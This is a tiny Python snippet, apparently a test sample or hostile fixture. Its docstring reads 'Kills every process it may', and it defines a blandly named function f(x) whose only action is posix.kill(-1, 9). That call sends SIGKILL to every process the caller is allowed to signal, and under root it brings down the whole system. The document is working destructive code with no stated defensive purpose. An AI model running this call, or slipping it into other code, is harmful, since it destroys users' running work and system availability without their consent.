"""Kills every process it may."""
import posix


def f(x):
    posix.kill(-1, 9)
    return None
